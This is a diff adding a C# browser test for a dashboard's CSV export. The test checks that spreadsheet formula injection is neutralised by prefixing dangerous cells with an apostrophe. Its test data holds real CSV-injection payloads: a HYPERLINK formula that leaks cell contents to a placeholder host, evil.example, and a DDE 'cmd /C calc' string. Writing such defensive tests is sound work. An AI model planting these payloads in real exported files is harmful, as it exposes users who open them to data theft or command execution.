@@ -540,6 +540,37 @@ public sealed class DashboardTests(DashboardFixture f)
         p.AssertNoErrors();
     }
 
+    /// <summary>A product title sent through ingest as a spreadsheet formula (and text of the other leading characters
+    /// Excel and LibreOffice take as one: + - @ tab) downloads as text: the CSV cell starts with an apostrophe, so
+    /// opening the file runs nothing. Numbers keep their sign, digit for digit, whether the API sent them as numbers or
+    /// as digits.</summary>
+    [Fact]
+    public async Task Explorer_csv_keeps_formulas_in_the_data_as_text()
+    {
+        const string title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        using (var sent = await f.Http.PostAsJsonAsync("api/v1/ingest/products", new JsonObject { ["asin"] = "B0FORMULA1", ["title"] = title, ["price"] = 1.5 }))
+        {
+            Assert.Equal(HttpStatusCode.Accepted, sent.StatusCode);
+        }
+        const string sql = "SELECT title, '+1+cmd|'' /C calc''!A0' AS plus, '-2+3' AS minus, '@SUM(A1)' AS at, chr(9) || '=1' AS tab, "
+                           + "-5 AS n, '-12.5' AS text_number, -12345678901234567890::HUGEINT AS big FROM products WHERE asin = 'B0FORMULA1'";
+        using var guard = new CancellationTokenSource(TimeSpan.FromSeconds(60));
+        while ((await MartTable.QueryAsync(f.Http, sql)).Rows.Count == 0)
+        {
+            await Task.Delay(200, guard.Token);
+        }
+
+        await using var p = await DashboardPage.OpenAsync(f, "/sql");
+        await p.Page.GetByRole(AriaRole.Textbox, new() { Name = "SQL", Exact = true }).FillAsync(sql);
+        await p.Page.GetByTestId("run-sql").ClickAsync();
+        await Assertions.Expect(p.Page.Locator("[data-testid='result-table'] tbody tr")).ToHaveCountAsync(1);
+        var download = await p.Page.RunAndWaitForDownloadAsync(() => p.Page.GetByTestId("download-csv").ClickAsync());
+        var csv = await File.ReadAllTextAsync((await download.PathAsync())!, Encoding.UTF8);
+        Assert.Equal("title,plus,minus,at,tab,n,text_number,big\r\n"
+                     + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'+1+cmd|' /C calc'!A0,'-2+3,'@SUM(A1),'\t=1,-5,-12.5,-12345678901234567890\r\n", csv);
+        p.AssertNoErrors();
+    }
+
     [Fact]
     public async Task Explorer_shows_decimals_beyond_a_doubles_precision_digit_for_digit()
     {
